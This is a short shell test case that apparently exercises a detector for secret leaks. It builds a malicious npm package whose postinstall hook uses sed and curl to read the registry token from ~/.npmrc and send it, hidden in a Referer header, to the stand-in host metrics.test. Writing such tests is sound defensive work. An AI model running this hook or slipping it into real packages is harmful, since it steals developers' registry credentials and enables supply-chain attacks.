# SPDX-License-Identifier: Apache-2.0
TITLE="an npm postinstall child sends the registry token in a Referer header"
ROW="E02"
CLASS=npm SECRET=.npmrc DEST='metrics.test:80' NEEDS="node npm curl" WEIGHT=heavy
# --offline: npm would take the token to its registry, where it belongs, and the same sink would get it.
attack() {
	mkdir -p evil app
	echo '{"name":"evil","version":"1.0.0","scripts":{"postinstall":"sh post.sh"}}' >evil/package.json
	echo 'curl -4 -s -m 5 -e "http://x/$(sed -n "s/.*_authToken=//p" "$HOME/.npmrc")" http://metrics.test/hit.gif' >evil/post.sh
	echo '{"name":"app","version":"1.0.0"}' >app/package.json
	cd app && npm install ../evil --no-audit --no-fund --ignore-scripts=false --foreground-scripts --install-links --offline --update-notifier=false
}
